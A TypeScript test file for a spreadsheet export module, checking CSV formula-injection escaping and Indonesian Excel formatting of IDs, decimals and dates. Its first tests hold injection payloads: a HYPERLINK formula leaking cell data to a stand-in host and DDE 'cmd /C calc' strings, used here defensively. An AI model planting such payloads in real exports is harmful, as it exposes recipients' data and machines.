import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { byHeader, openCsvAsIndonesianExcel, openXlsx } from '../../../test/helpers/excel.js';
import { parseTable } from './table-import.js';
import { csvCell, exportTable, type ExportColumn, type ExportOptions } from './table-export.js';

describe('csvCell', () => {
  it.each([
    [
      '=HYPERLINK("http://x.example/?d="&A1,"klik")',
      `'=HYPERLINK("http://x.example/?d="&A1,"klik")`,
    ],
    ['+62 811 0000', `'+62 811 0000`],
    ['-2+3+cmd|" /C calc"!A0', `'-2+3+cmd|" /C calc"!A0`],
    ['@SUM(1+9)*cmd|" /C calc"!A0', `'@SUM(1+9)*cmd|" /C calc"!A0`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
  ])('neutralises %j', (cell, expected) => {
    expect(csvCell(cell)).toBe(expected);
  });

  it('leaves ordinary text, numbers (negative ones too) and empty cells alone', () => {
    expect(csvCell('Siti Aminah, S.Kep.')).toBe('Siti Aminah, S.Kep.');
    expect(csvCell('199003152015032001')).toBe('199003152015032001');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell('')).toBe('');
    expect(csvCell(-2)).toBe(-2);
    expect(csvCell(87.5)).toBe(87.5);
    expect(csvCell(null)).toBeNull();
  });
});

describe('exportTable', () => {
  const rows = [
    { name: '=HYPERLINK("http://x.example","Klik")', gap: -2 },
    { name: 'Budi', gap: 1 },
  ];
  const columns: ExportColumn<(typeof rows)[number]>[] = [
    { header: 'Nama', kind: 'text', value: (r) => r.name },
    { header: 'Kesenjangan', kind: 'number', value: (r) => r.gap },
  ];
  const csv: ExportOptions = { format: 'csv', delimiter: ',', timeZone: 'Asia/Jakarta' };

  it('writes no cell of a CSV that a spreadsheet would take for a formula', async () => {
    const file = await exportTable('uji', rows, columns, csv);
    const cells = parse(file.body.toString('utf8').replace(/^\uFEFF/, '')) as string[][];
    expect(cells).toEqual([
      ['Nama', 'Kesenjangan'],
      [`'=HYPERLINK("http://x.example","Klik")`, '-2'],
      ['Budi', '1'],
    ]);
    expect(cells.flat().filter((c) => /^[=+@\t\r]/.test(c))).toEqual([]);
  });

  it('quotes a cell holding either separator, so an Excel splitting on the other finds no formula', async () => {
    const titled = [
      { name: 'Pelatihan K3,=HYPERLINK("http://x.example")', gap: 0 },
      { name: 'a;=1+1', gap: 0 },
    ];
    for (const delimiter of [';', ','] as const) {
      const file = await exportTable('uji', titled, columns, { ...csv, delimiter });
      const text = file.body.toString('utf8').replace(/^\uFEFF/, '');
      for (const other of [';', ','] as const) {
        const cells = parse(text, {
          delimiter: other,
          relax_quotes: true,
          relax_column_count: true,
        }) as string[][];
        expect(cells.flat().filter((c) => /^[=+@]/.test(c))).toEqual([]);
      }
    }
  });

  it('keeps XLSX cells as they are: a typed string cell is never a formula', async () => {
    const file = await exportTable('uji', rows, columns, { ...csv, format: 'xlsx' });
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(file.body as never);
    const cell = book.worksheets[0].getCell('A2');
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe(rows[0].name);
    expect(book.worksheets[0].getCell('B2').value).toBe(-2);
  });
});

describe('exports as Indonesian Excel opens them', () => {
  const NIP = '199003152015032001';
  // 16:52 UTC is 23:52 in Jakarta (WIB); 17:30 UTC is already the next day there.
  const rows = [
    {
      nip: NIP,
      name: 'Siti Aminah, S.Kep.',
      unit: '001',
      percent: 51.55,
      at: '2026-12-22T16:52:47.000Z',
      until: new Date('2027-01-31T17:30:00Z'),
    },
  ];
  const columns: ExportColumn<(typeof rows)[number]>[] = [
    { header: 'NIP', kind: 'text', value: (r) => r.nip },
    { header: 'Nama', kind: 'text', value: (r) => r.name },
    { header: 'Kode Unit Kerja', kind: 'text', value: (r) => r.unit },
    { header: 'Persen', kind: 'number', value: (r) => r.percent },
    { header: 'Mulai', kind: 'datetime', value: (r) => r.at },
    { header: 'Berlaku Sampai', kind: 'date', value: (r) => r.until },
  ];
  const options = (o: Partial<ExportOptions>): ExportOptions => ({
    format: 'csv',
    delimiter: ';',
    timeZone: 'Asia/Jakarta',
    ...o,
  });

  it("the reading used here is Excel's: a bare 18-digit NIP loses its last digits", () => {
    const [, [nip]] = openCsvAsIndonesianExcel(`\uFEFFNIP\r\n${NIP}\r\n`);
    expect(nip).toBe(199003152015032000);
    expect(String(nip)).not.toBe(NIP);
  });

  it('a ; CSV: columns split, NIP and digit codes text, decimal comma, WIB dates, CRLF, BOM', async () => {
    const file = await exportTable('uji', rows, columns, options({}));
    const text = file.body.toString('utf8');
    expect(text.startsWith('\uFEFFNIP;Nama;')).toBe(true);
    expect(text).toContain('\r\n');
    expect(text.replace(/\r\n/g, '')).not.toContain('\n');
    const [row] = byHeader(openCsvAsIndonesianExcel(file.body));
    expect(row).toEqual({
      NIP,
      Nama: 'Siti Aminah, S.Kep.',
      'Kode Unit Kerja': '001',
      Persen: 51.55,
      Mulai: new Date(Date.UTC(2026, 11, 22, 23, 52)),
      'Berlaku Sampai': new Date(Date.UTC(2027, 1, 1)),
    });
    expect((row.NIP as string).length).toBe(18);
    // A decimal comma is quoted like any cell holding a separator; Excel still reads a number.
    expect(text).toContain('"51,55";22/12/2026 23:52;01/02/2027');
  });

  it('a , CSV: decimal point, ISO-ordered wall-clock dates, NIP still text, LF as before', async () => {
    const file = await exportTable('uji', rows, columns, options({ delimiter: ',' }));
    const [, line] = file.body.toString('utf8').split('\n');
    expect(line).toBe(
      `"=""${NIP}""","Siti Aminah, S.Kep.","=""001""",51.55,2026-12-22 23:52,2027-02-01`,
    );
  });

  it('XLSX: NIP a string cell formatted as text, numbers numbers, dates date cells in WIB', async () => {
    const file = await exportTable('uji', rows, columns, options({ format: 'xlsx' }));
    const { rows: cells, sheet } = await openXlsx(file.body);
    const [row] = byHeader(cells);
    expect(row.NIP).toBe(NIP);
    expect(sheet.getCell('A2').type).toBe(ExcelJS.ValueType.String);
    expect(sheet.getCell('A2').numFmt).toBe('@');
    expect(row['Kode Unit Kerja']).toBe('001');
    expect(row.Persen).toBe(51.55);
    expect(row.Mulai).toEqual(new Date(Date.UTC(2026, 11, 22, 23, 52, 47)));
    expect(sheet.getCell('E2').numFmt).toBe('dd/mm/yyyy hh:mm');
    expect(row['Berlaku Sampai']).toEqual(new Date(Date.UTC(2027, 1, 1)));
    expect(sheet.getCell('F2').numFmt).toBe('dd/mm/yyyy');
  });

  it.each([
    ['; CSV', options({})],
    [', CSV', options({ delimiter: ',' })],
    ['XLSX', options({ format: 'xlsx' })],
  ])('comes back through the importer unchanged (%s)', async (_, how) => {
    const file = await exportTable('uji', rows, columns, how);
    const [row] = await parseTable(
      file.body,
      { nip: 'nip', nama: 'name', 'kode unit kerja': 'unit', persen: 'percent' },
      ['nip'],
    );
    expect(row).toMatchObject({ nip: NIP, name: 'Siti Aminah, S.Kep.', unit: '001' });
    expect(Number(row.percent.replace(',', '.'))).toBe(51.55);
  });
});
